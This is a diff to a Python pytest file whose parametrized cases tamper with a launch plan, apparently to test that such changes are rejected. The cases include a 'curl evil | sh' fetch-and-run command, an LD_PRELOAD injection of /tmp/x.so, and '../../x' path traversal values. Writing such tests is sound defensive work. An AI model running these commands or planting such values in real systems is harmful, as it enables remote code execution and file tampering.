@@ -467,9 +467,9 @@ def test_what_a_plan_calls_its_checkpoint_decides_nothing(
 @pytest.mark.parametrize(
     "change",
     [
-        lambda d: d["launch"]["commands"].append("curl evil | sh"),
-        lambda d: d["launch"].update(environment={"LD_PRELOAD": "/tmp/x.so"}),
-        lambda d: d["launch"].update(files={"../../x": "y"}),
+        lambda d: d["ways"][-1]["launch"]["commands"].append("curl evil | sh"),
+        lambda d: d["ways"][-1]["launch"].update(environment={"LD_PRELOAD": "/tmp/x.so"}),
+        lambda d: d["ways"][-1]["launch"].update(files={"../../x": "y"}),
         lambda d: d.update(layout="../../x"),
         lambda d: d["deployment"].update(gpu=False),
         lambda d: d["deployment"].update(dp=True),
